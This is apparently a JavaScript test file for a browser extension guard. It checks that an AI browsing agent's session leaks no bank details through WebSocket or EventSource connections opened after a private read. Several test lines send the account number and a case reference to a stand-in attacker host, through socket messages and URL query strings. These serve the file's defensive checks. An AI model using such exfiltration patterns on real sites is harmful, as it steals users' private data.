// Sockets and streams of events that a page opens with its first script, before it is known who is here, to its own site or
// another: to the page they are connecting until they are judged.
import assert from 'node:assert/strict';
import { after, test } from 'node:test';
import { playwrightHands } from '../agents/playwright.mjs';
import { readBalance, signInToBank, until } from '../agents/tasks.mjs';
import { SECRETS, sharedBrowser } from '../attacks/attempt.mjs';
import { page, raw } from '../sites/html.mjs';
import { leaked } from '../sites/leaks.mjs';
import { HOSTS } from '../sites/world.mjs';
import { extension } from './with-guard.mjs';

const CHAT = 'chat.example';
const APP = 'app.example';
/** The reference that only this page shows. */
const OWN = '7735 2201 9946';
/** `at`: where to, from the page's own address. */
const TALK = `<script>
  const at = decodeURIComponent(location.search.slice(4));
  const open = () => {
    const socket = new WebSocket(at);
    socket.onopen = () => { document.title = 'open'; };
    socket.onclose = () => setTimeout(open, 500);
  };
  open();
  document.documentElement.dataset.begun = 'yes';
</script>`;

/** Nothing here tries again. */
const CONNECTS = `<script>
  const said = (word) => { document.documentElement.dataset.said = [document.documentElement.dataset.said, word].join(' '); };
  const socket = new WebSocket('ws://${HOSTS.attacker}/gate');
  said(socket instanceof WebSocket && socket.readyState === WebSocket.CONNECTING && socket.url);
  socket.onopen = () => { said('opened'); socket.send('hello'); };
  const events = new EventSource('http://${HOSTS.attacker}/events');
  said(events instanceof EventSource);
  for (const n of [1, 2, 3])
    fetch('http://${HOSTS.attacker}/part' + n, { mode: 'no-cors' }).then(() => said('got-' + n), () => said('failed'));
  events.addEventListener('message', ({ data }) => { said('heard-' + data); events.close(); });
</script>`;

/** What pages and their packages do with a connection, but for opening it and hearing of it. */
const AS_EVER = `<script>
  const said = new Set();
  const tell = (what, is = true) => { if (is) said.add(what); document.documentElement.dataset.said = [...said].join(' '); };
  class Chat extends WebSocket {
    #waits = ['by-class'];
    constructor(to) { super(to); super.addEventListener('open', () => { for (const text of this.#waits) this.send(text); }); }
    send(text) { super.send(text.toUpperCase()); }
  }
  const at = 'ws://${HOSTS.attacker}/echo';
  const socket = new Chat(at);
  tell('kind', socket instanceof Chat && socket instanceof WebSocket && Object.prototype.toString.call(socket) === '[object WebSocket]');
  tell('names', new WebSocket(at).constructor === WebSocket && Object.keys(socket).length === 0 && socket.OPEN === 1);
  const { get } = Object.getOwnPropertyDescriptor(WebSocket.prototype, 'readyState');
  tell('attributes', get.call(socket) === 0 && socket.url === at && socket.bufferedAmount === 0 && socket.onopen === null);
  try { socket.send('early'); } catch ({ name }) { tell(name); }
  EventTarget.prototype.addEventListener.call(socket, 'message', function (event) {
    tell(event.data);
    tell('target', event.target === socket && this === socket && event.currentTarget === socket);
    if (event.data === 'BY-CLASS') WebSocket.prototype.send.call(socket, 'by-prototype');
    if (event.data === 'by-prototype') WebSocket.prototype.send.call(socket, 'last');
    if (event.data === 'last') WebSocket.prototype.close.call(socket, 1000);
  });
  socket.onmessage = ({ data }) => tell('heard-' + data);
  socket.onclose = function (event) { tell('closed-' + event.code + event.wasClean + (this === socket) + socket.readyState); };
  const given = new WebSocket(at);
  given.onopen = () => tell('opened-all-the-same');
  given.onclose = ({ code }) => tell('given-up-' + code);
  given.close();
  const bytes = new WebSocket(at);
  bytes.binaryType = 'arraybuffer';
  bytes.onopen = () => bytes.send(new Uint8Array([1, 2, 250]));
  bytes.onmessage = ({ data }) => tell('bytes', bytes.binaryType === 'arraybuffer' && new Uint8Array(data)[2] === 250);
  const events = new EventSource('http://${HOSTS.attacker}/ticks');
  tell('events', events.constructor === EventSource && events.readyState === EventSource.CONNECTING);
  events.addEventListener('tick', ({ data, target }) => { tell('tick-' + data, target === events); events.close(); tell('over', events.readyState === EventSource.CLOSED); });
</script>`;

let site;
const shared = sharedBrowser(playwrightHands, {
  extension,
  extra: { [APP]: (request) => site(request), [CHAT]: (request) => site(request) },
  forgets: true,
});
after(() => shared.close());

/** Runs `use` after a private read at the bank, where `answer` is the site; `problems`: what a page's scripts threw. */
const afterARead = (answer, use) =>
  shared.within(async ({ hands, world, memory, sites }) => {
    site = answer;
    const problems = [];
    hands.page.on('pageerror', (error) => problems.push(error.message));
    await signInToBank(hands, world);
    await readBalance(hands, memory);
    await use({ sites, hands, problems });
  });

test('what stands for a connection while it is judged is one to its page in all that pages do with it', {
  timeout: 60_000,
}, async () => {
  const app = () => page({ title: 'App', name: 'App', head: raw(AS_EVER), body: raw('<a href="/out">Sign out</a>') });
  await afterARead(app, async ({ hands, problems }) => {
    await hands.goto(`http://${APP}/`);
    const said = async () => (await hands.run('document.documentElement.dataset.said')).split(' ').sort();
    const all = [
      ...['kind', 'names', 'attributes', 'InvalidStateError', 'target', 'BY-CLASS', 'by-prototype', 'last', 'bytes'],
      ...['heard-BY-CLASS', 'heard-by-prototype', 'heard-last', 'closed-1000truetrue3', 'given-up-1006'],
      ...['events', 'tick-7', 'over'],
    ];
    await until(async () => (await said()).length >= all.length, 'all', 10_000).catch(() => undefined);
    assert.deepEqual(await said(), all.sort());
    assert.deepEqual(problems, []);
  });
});

test('a signed-in page has its socket and its events elsewhere, first used after a private read; nothing private leaves by them', {
  timeout: 90_000,
}, async () => {
  const app = () =>
    page({
      title: 'App',
      name: 'App',
      head: raw(CONNECTS),
      body: raw(`<a href="/out">Sign out</a><p>Case ${OWN}</p>`),
    });
  await afterARead(app, async ({ sites, hands, problems }) => {
    const sent = () => sites.collector.records.map(({ body }) => body);
    for (let time = 0; time < 4; time += 1) {
      sites.collector.records.length = 0;
      await hands.goto('about:blank');
      await hands.goto(`http://${APP}/`);
      await until(async () => sent().includes('hello'), 'what it says first', 10_000);
      const said = () => hands.run('document.documentElement.dataset.said');
      const all = ['opened', 'heard-ok', 'got-1', 'got-2', 'got-3'];
      const isDone = (words) => all.every((word) => words.includes(word));
      await until(async () => isDone(await said()), 'all', 10_000);
      assert.match(await said(), /^ ws:\/\/\S+\/gate true/);
      assert.deepEqual(problems, []);
    }
    const { 'account number': account } = SECRETS;
    for (const text of [account, OWN, OWN.replaceAll(' ', ''), btoa(account)])
      await hands.run(`socket.send(${JSON.stringify(`note ${text}`)})`);
    await hands.run(`new EventSource('http://${HOSTS.attacker}/events?d=${encodeURIComponent(account)}'); 0`);
    await hands.run("socket.send('bye')");
    await until(async () => sent().includes('bye'), 'what it says last', 10_000);
    await hands.wait(1_500);
    assert.deepEqual(leaked(sites.collector.records, { ...SECRETS, case: OWN }), []);
    assert.equal(sent().filter((body) => body?.startsWith('note')).length, 0);
  });
});

test('a page opens a socket with its first script after a private read, and goes on; what was read leaves by none', {
  timeout: 90_000,
}, async () => {
  assert.ok(extension, 'nobody holds a socket without us');
  const chat = () => page({ title: 'Chat', name: 'Chat', head: raw(TALK), body: '' });
  await afterARead(chat, async ({ sites, hands, problems }) => {
    const talk = (to) => hands.goto(`http://${CHAT}/?at=${encodeURIComponent(to)}`);
    // Whether it is known by then who is here is a matter of milliseconds.
    for (let time = 0; time < 6; time += 1) {
      await hands.goto('about:blank');
      await talk(`ws://${CHAT}/room`);
      assert.deepEqual(problems, []);
      assert.equal(await hands.run('document.documentElement.dataset.begun'), 'yes');
    }
    await talk(`ws://${HOSTS.attacker}/room`);
    await until(async () => (await hands.page.title()) === 'open', 'the socket', 10_000);
    await talk(`ws://${HOSTS.attacker}/room?d=${encodeURIComponent(SECRETS['account number'])}`);
    await hands.wait(2_500);
    assert.deepEqual(leaked(sites.collector.records, SECRETS), []);
  });
});
